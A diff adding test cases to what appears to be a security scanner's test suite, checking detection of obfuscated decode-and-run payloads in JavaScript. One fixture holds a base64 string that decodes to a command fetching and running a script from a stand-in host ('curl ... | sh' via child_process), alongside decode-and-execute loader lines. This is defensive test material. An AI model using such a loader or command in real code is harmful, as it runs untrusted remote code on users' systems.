@@ -1931,3 +1931,15 @@ describe('dns-exfiltration: data written into the name a DNS lookup asks for', (
     expect(dns('app/storage.py', ['host = socket.gethostbyname(f"{bucket}.s3.amazonaws.com")', 'token = base64.b64encode(key)'])).toBeUndefined();
   });
 });
+
+describe('obfuscated-code: a payload cut out of a longer string, decoded and run', () => {
+  const ids = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })]).map((f) => `${f.id}:${f.severity}`);
+  const B = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cHM6Ly94LmV4YW1wbGUuY29tL3Auc2ggfCBzaCIp';
+  it('reads Buffer.from over a split or slice, and vm run through require', () => {
+    expect(ids('src/index.js', [`const cfg = 'v1 ${B}';`, "const p = Buffer.from(cfg.split(' ')[1], 'base64').toString();", 'new Function(p)();'])).toContain('obfuscated-code:high');
+    expect(ids('src/load.js', ["const c = require('./cfg.json');", "const code = Buffer.from(c.v.slice(4), 'base64url').toString('utf8');", "require('vm').runInThisContext(code);"])).toContain('obfuscated-code:high');
+  });
+  it('is quiet on the same decoding without code run: a data URL, a JWT, Basic auth', () => {
+    expect(ids('src/img.js', ['export function decode(url) {', "  const [, data] = url.split(',');", "  return Buffer.from(data, 'base64');", '}', "export const claims = (t) => JSON.parse(Buffer.from(t.split('.')[1], 'base64url').toString());", "export const user = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];"])).toEqual([]);
+  });
+});
